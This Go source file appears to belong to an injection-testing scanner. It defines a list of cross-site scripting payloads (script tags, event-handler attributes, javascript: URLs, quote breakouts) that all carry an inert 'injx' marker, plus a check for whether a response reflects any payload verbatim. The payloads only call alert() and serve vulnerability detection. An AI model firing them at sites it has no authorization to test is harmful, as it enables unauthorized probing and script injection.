// Package xss generates cross-site scripting payloads. Every payload
// embeds the Marker token: a target that reflects the payload verbatim
// reflects the marker, which is what the reflection predicate keys on.
package xss

import (
	"strings"

	"github.com/injectest/injectest/pkg/payload"
)

// Marker is the token embedded in every payload. It is inert on its own;
// only verbatim reflection of the surrounding payload is significant.
const Marker = "injx"

// Payloads returns XSS payloads covering element, attribute, and URL
// injection contexts.
func Payloads() []string {
	raw := []string{
		`<script>alert('{M}')</script>`,
		`<img src=x onerror=alert('{M}')>`,
		`<svg onload=alert('{M}')>`,
		`<body onload=alert('{M}')>`,
		`"><script>alert('{M}')</script>`,
		`'><img src=x onerror=alert('{M}')>`,
		`<details open ontoggle=alert('{M}')>`,
		`<iframe src="javascript:alert('{M}')">`,
		`javascript:alert('{M}')`,
		`"onmouseover="alert('{M}')`,
		`';alert('{M}');//`,
		"<script>alert(`{M}`)</script>",
	}
	out := make([]string, len(raw))
	for i, p := range raw {
		out[i] = strings.ReplaceAll(p, "{M}", Marker)
	}
	return out
}

// ContainsMarker reports whether body reflects any payload verbatim.
// Encoded or stripped reflections do not count: a target that
// entity-escapes the payload no longer contains the raw form.
func ContainsMarker(body string, payloads []string) (string, bool) {
	for _, p := range payloads {
		if strings.Contains(body, p) {
			return p, true
		}
	}
	return "", false
}

// Generator returns the XSS payload set as a payload.Generator.
func Generator() payload.Generator {
	return payload.Slice("xss-injection", Payloads()...)
}
